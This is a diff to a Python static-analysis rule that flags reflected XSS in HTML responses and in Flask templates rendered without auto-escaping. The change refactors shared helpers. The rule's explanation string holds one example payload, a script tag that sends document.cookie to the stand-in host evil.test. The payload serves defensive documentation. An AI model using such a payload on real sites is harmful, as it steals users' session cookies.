@@ -8,6 +8,7 @@ from tabguard.engine.rule import Invalid, Rule
 from tabguard.engine.types import Related
 from tabguard.rules.injection import last_names
 from tabguard.rules.injection._html import (
+    FLASK_RENDER,
     HTML_ALWAYS,
     HTML_RESPONSES,
     TYPE_KEYWORDS,
@@ -15,6 +16,7 @@ from tabguard.rules.injection._html import (
     is_html_response,
     proxy_html_body,
     returns_html,
+    unescaped_template,
 )
 from tabguard.rules.injection._strings import built_string, is_string_building, raised
 
@@ -28,10 +30,6 @@ def _declared_type(call: ast.Call, ctx) -> str | None:
     return None
 
 
-_FLASK_RENDER = frozenset({"flask.render_template", "flask.templating.render_template", "quart.render_template"})
-_AUTOESCAPED = (".html", ".htm", ".xml", ".xhtml", ".svg")
-
-
 class HtmlResponseXss(Rule):
     id = "TG110"
     name = "reflected-xss-response"
@@ -43,7 +41,7 @@ class HtmlResponseXss(Rule):
     message = "HTML response built from user input ({source}) without escaping"
     placeholders = {"source": "request data"}
     aliases = ()
-    call_names = last_names(HTML_RESPONSES | _FLASK_RENDER)
+    call_names = last_names(HTML_RESPONSES | FLASK_RENDER)
     what = "The response body is HTML and includes {source} as written, bypassing template auto-escaping."
     why = (
         "A link such as `/hello?name=<script>fetch('//evil.test?c='+document.cookie)</script>` makes the "
@@ -126,7 +124,7 @@ class HtmlResponseXss(Rule):
 
     def visit_Call(self, node: ast.Call, ctx) -> None:
         callee = ctx.call_name(node) or ""
-        if callee in _FLASK_RENDER:
+        if callee in FLASK_RENDER:
             self._check_unescaped_template(node, ctx)
             return
         if not is_html_response(callee):
@@ -162,8 +160,8 @@ class HtmlResponseXss(Rule):
 
     def _check_unescaped_template(self, node: ast.Call, ctx) -> None:
         """Flask auto-escapes only templates named `.html`, `.htm`, `.xml`, `.xhtml` or `.svg`."""
-        name = ctx.constant_value(node.args[0]) if node.args else None
-        if not isinstance(name, str) or name.lower().endswith(_AUTOESCAPED) or not returns_html(ctx.function, ctx):
+        name = unescaped_template(node, ctx)
+        if name is None or not returns_html(ctx.function, ctx):
             return
         for keyword in node.keywords:
             source = ctx.taint(keyword.value)
